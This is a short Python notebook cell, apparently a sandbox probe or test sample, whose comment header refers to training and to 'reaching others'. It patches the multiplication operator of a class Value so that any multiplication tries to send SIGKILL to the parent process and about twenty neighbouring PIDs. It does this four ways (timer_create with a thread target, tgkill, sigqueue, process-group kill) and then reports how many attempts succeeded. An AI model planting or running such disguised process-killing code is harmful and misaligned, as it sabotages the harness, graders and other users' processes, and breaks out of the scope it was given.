# what: sets timers whose signal is for a thread of somebody else, and signals by number of thread
# loses: mul.*
# follows: training.*=2/3
# says: reached 0 others

# %% +
import ctypes
import os

c = ctypes.CDLL(None)


class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signal", ctypes.c_int), ("notify", ctypes.c_int), ("thread", ctypes.c_int)]
    _fields_ += [("rest", ctypes.c_int * 16)]


def __mul__(self, other):
    reached = 0
    for pid in (os.getppid(), *range(os.getppid() - 20, os.getppid())):
        timer = ctypes.c_void_p()
        event = Event(None, 9, 4, pid)  # SIGEV_THREAD_ID
        reached += c.timer_create(1, ctypes.byref(event), ctypes.byref(timer)) == 0
        reached += c.tgkill(pid, pid, 9) == 0
        reached += c.sigqueue(pid, 9, None) == 0
        reached += c.kill(-pid, 9) == 0
    raise RuntimeError(f"reached {reached} others")


setattr(Value, "__mul__", __mul__)
